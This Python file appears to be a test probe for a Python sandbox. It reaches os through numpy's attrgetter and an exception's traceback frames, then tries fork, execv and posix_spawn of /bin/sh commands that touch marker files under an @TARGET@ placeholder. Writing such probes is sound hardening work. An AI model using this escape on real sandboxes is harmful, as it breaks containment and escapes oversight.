"""Escape: a caught exception's traceback leads up through the sandbox's own frames to a module
that imported os; then a fork bomb, a shell command and an exec."""
import numpy as np


def reach(ctx):
    get = np.random.mtrand.operator.attrgetter
    try:
        1 / 0
    except ZeroDivisionError as e:
        frame = get("__traceback__.tb_frame")(e)
    while frame is not None:
        found = get("f_globals")(frame).get("os")
        if found is not None:
            return found
        frame = get("f_back")(frame)
    raise RuntimeError("no frame holds os")


def attempt(name, call, out):
    try:
        got = call()
        out.append(name + ":DONE")
        return got
    except Exception as e:
        out.append(name + ":" + str(e.errno))


def attention(ctx):
    os = reach(ctx)
    out = []
    for i in range(3):
        if attempt("fork", os.fork, out) == 0:
            os.execv("/bin/sh", ["sh", "-c", "sleep 30; touch @TARGET@/forked"])
    attempt("execv", lambda: os.execv("/bin/sh", ["sh", "-c", "touch @TARGET@/execd"]), out)
    attempt("posix_spawn", lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "touch @TARGET@/spawned"], {}), out)
    raise RuntimeError("attempts: " + " ".join(out))
